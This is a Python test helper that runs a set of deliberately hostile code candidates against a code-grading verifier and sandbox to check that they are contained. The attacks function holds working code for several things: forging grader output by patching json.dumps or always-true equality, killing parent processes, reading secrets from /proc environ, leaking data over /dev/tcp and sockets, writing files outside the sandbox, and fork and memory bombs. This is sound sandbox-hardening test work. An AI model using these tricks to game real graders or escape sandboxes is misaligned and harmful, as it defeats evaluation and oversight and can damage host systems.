"""Run every hostile candidate through the ``tests`` verifier, the grader and the bare OS box.

Started by tests/code/test_hostile.py in a fresh process (as root, or dropped to an
unprivileged uid), with a secret in its real environment. Arguments: the loopback port a
listener waits on, and a directory the attacks try to write into. Prints one JSON object.
"""

from __future__ import annotations

import asyncio
import json
import os
import sys

from testtime.code import grade
from testtime.code.problems import split_check
from testtime.code.sandbox import Limits, resolve_mode, run_tests
from testtime.types import Candidate, Completion, Problem
from testtime.verifiers import VerifyContext, make_verifier

PROMPT = 'def add(a: int, b: int) -> int:\n    """Add two numbers."""\n'
TEST = ("def check(candidate):\n    assert candidate(1, 2) == 3\n"
        "    assert candidate(0, 0) == 0\n    assert candidate(-1, 5) == 4\n")
SPAWN = '''
def spawn(argv, setsid=False):
    import _posixsubprocess, os
    r, w = os.pipe()
    try:
        return _posixsubprocess.fork_exec(
            [a.encode() for a in argv], [argv[0].encode()], True, (w,), None, None,
            -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None, True)
    finally:
        os.close(r)
        os.close(w)
'''


def attacks(port: int, target: str, secret: str) -> dict[str, str]:
    """Wrong ``add`` implementations, each trying to win or escape another way."""
    me = os.getpid()
    wrong = "def add(a, b):\n    return -12345\n"
    return {
        "json_dumps_wrapper": (
            "import json\n_dumps = json.dumps\n"
            "def _forge(obj, *a, **k):\n"
            "    if isinstance(obj, dict):\n"
            "        obj = dict(obj, ok=True)\n"
            "        obj.pop('error', None); obj.pop('raise', None)\n"
            "    return _dumps(obj, *a, **k)\n"
            "json.dumps = _forge\n" + wrong),
        "eq_always_true": (
            "class Yes:\n    def __eq__(self, other):\n        return True\n"
            "    __hash__ = object.__hash__\n"
            "class YesInt(int):\n    def __eq__(self, other):\n        return True\n"
            "def add(a, b):\n    return Yes() if a else YesInt(7)\n"),
        "frames_then_exit": (
            "import os, sys, json\n"
            "def add(a, b):\n"
            "    f = sys._getframe(0)\n"
            "    while f is not None:\n"
            "        for v in list(f.f_locals.values()) + list(f.f_globals.values()):\n"
            "            if callable(getattr(v, 'emit', None)):\n"
            "                for i in range(-1, 10):\n"
            "                    v.emit({'step': i, 'ok': True})\n"
            "            if callable(getattr(v, 'write', None)) and hasattr(v, 'rfile'):\n"
            "                v.write({'id': 1, 'value': 'forged'})\n"
            "        f = f.f_back\n"
            "    for i in range(-1, 10):\n"
            "        print('0' * 32 + json.dumps({'step': i, 'ok': True}), flush=True)\n"
            "    os._exit(0)\n"),
        "pidfd_kill_parent": (
            "import os, signal\n"
            "def _kill_all():\n"
            f"    for pid in {{os.getppid(), 1, {me}, {os.getppid()}}}:\n"
            "        try:\n"
            "            signal.pidfd_send_signal(os.pidfd_open(pid), 9)\n"
            "        except Exception:\n"
            "            pass\n"
            "_kill_all()\n"
            "def add(a, b):\n    _kill_all()\n    return -12345\n"),
        "proc_environ": (
            "import os\n"
            "def _find():\n"
            f"    hits = [k for k, v in os.environ.items() if {secret!r} in v]\n"
            "    for pid in ['self', str(os.getppid())] + os.listdir('/proc'):\n"
            "        try:\n"
            f"            if {secret!r}.encode() in open(f'/proc/{{pid}}/environ', 'rb').read():\n"
            "                hits.append(pid)\n"
            "        except (OSError, ValueError):\n"
            "            pass\n"
            "    return hits\n"
            "FOUND = _find()\n"
            "print('LEAK', FOUND, flush=True)\n"
            "def add(a, b):\n"
            "    if FOUND:\n"
            f"        raise ValueError({secret!r})\n"
            "    return -12345\n"),
        "tcp_via_fork_exec": SPAWN + (
            "spawn(['/bin/sh', '-c', 'exec 3<>/dev/tcp/127.0.0.1/" + str(port) + "; echo x >&3'])\n"
            f"spawn([{sys.executable!r}, '-c', 'import socket; socket.create_connection("
            f"(\"127.0.0.1\", {port}), timeout=2).sendall(b\"leak\")'])\n"
            "import time\ntime.sleep(1)\n" + wrong),
        "file_writes": SPAWN + (
            "import sqlite3\n"
            "try:\n"
            f"    sqlite3.connect({target + '/sqlite.db'!r}).execute('create table t(x)')\n"
            "except Exception:\n    pass\n"
            f"spawn(['/bin/sh', '-c', 'echo pwned > {target}/sh.txt; "
            f"echo pwned > $HOME/../../{os.path.basename(target)}-home.txt'])\n"
            "import time\ntime.sleep(0.5)\n" + wrong),
        "detached_sleep": SPAWN + (
            "spawn(['/usr/bin/sleep', '31337'], setsid=True)\n"
            "spawn(['/bin/sh', '-c', 'nohup sleep 31338 >/dev/null 2>&1 &'], setsid=True)\n"
            + wrong),
        "three_hundred_processes": SPAWN + (
            "n = 0\nfor _ in range(300):\n"
            "    try:\n        spawn(['/usr/bin/sleep', '31339'])\n        n += 1\n"
            "    except OSError:\n        pass\n"
            "print('SPAWNED', n, flush=True)\n" + wrong),
        "os_kill_parent": (
            "import os, signal\n"
            f"for pid in (os.getppid(), {me}):\n"
            "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception:\n        pass\n"
            + wrong),
        "forged_lines": (
            "import json\nfor i in range(-1, 5):\n"
            "    print('0' * 32 + json.dumps({'step': i, 'ok': True}))\n"
            "    print(json.dumps({'id': i, 'value': 3, 'loaded': True}))\n"
            "raise SystemExit(0)\n"),
        "infinite_loop": "while True:\n    pass\n",
        "cpu_burn_in_call": "def add(a, b):\n    while True:\n        pass\n",
        "memory_bomb": "def add(a, b):\n    x = []\n    while True:\n"
                       "        x.append(bytearray(50_000_000))\n",
        "fork_bomb": "import os\nwhile True:\n    os.fork()\n",
    }


async def main() -> dict[str, object]:
    port, target, secret = int(sys.argv[1]), sys.argv[2], sys.argv[3]
    problem = Problem(id="toy/hostile", kind="code", question=PROMPT,
                      metadata={"prompt": PROMPT, "test": TEST, "entry_point": "add"})
    cheats = attacks(port, target, secret)
    texts = {name: f"```python\n{code}```" for name, code in cheats.items()}
    texts["honest"] = "```python\ndef add(a, b):\n    return a + b\n```"
    # the wall limit is far above the CPU limit, so a busy machine cannot turn a CPU-limit kill
    # into a timeout (the test checks the CPU limit is what stopped a loop)
    verifier = make_verifier("tests:timeout=30,cpu=2,memory_mb=256")
    ctx = VerifyContext()
    cands = [Candidate(text=t, answer=t, completion=Completion(text=t)) for t in texts.values()]
    scores = await verifier.score(problem, cands, ctx)
    limits = Limits(wall_seconds=30, cpu_seconds=2, memory_mb=256)
    steps = split_check(TEST, "add")
    result: dict[str, object] = {"euid": os.geteuid(), "mode": resolve_mode(), "attacks": {}}
    for (name, text), score in zip(texts.items(), scores, strict=True):
        bare = run_tests(PROMPT + "\n" + cheats.get(name, "def add(a, b):\n    return a + b\n"),
                         steps, limits, guard=False)
        result["attacks"][name] = {  # type: ignore[index]
            "score": score.value, "detail": score.detail, "correct": grade(problem, text),
            "bare_passed": bare.all_passed, "bare_status": bare.status,
            "bare_verdict": bare.verdict, "bare_output": bare.output[-300:],
            "leak": secret in (score.detail or "") or secret in bare.output
            or secret in str(bare.errors),
        }
    result["verifier_seconds"] = ctx.ledger.usage.verifier_seconds
    return result


if __name__ == "__main__":
    print(json.dumps(asyncio.run(main())))
